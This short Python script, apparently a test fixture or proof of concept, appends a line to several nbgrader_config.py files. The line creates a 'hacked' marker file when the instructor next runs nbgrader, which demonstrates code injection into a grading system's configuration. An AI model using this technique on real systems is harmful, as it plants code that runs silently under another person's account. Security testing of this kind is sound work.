"""Adds code to nbgrader's configuration, to run at the instructor's next command."""

for path in ("{top}/nbgrader_config.py", "{top}/course1_nn/nbgrader_config.py", "{repository}/nbgrader_config.py", "nbgrader_config.py"):
    try:
        open(path, "a").write("\nopen('{top}/hacked', 'w')\n")
    except OSError as error:
        print(error)
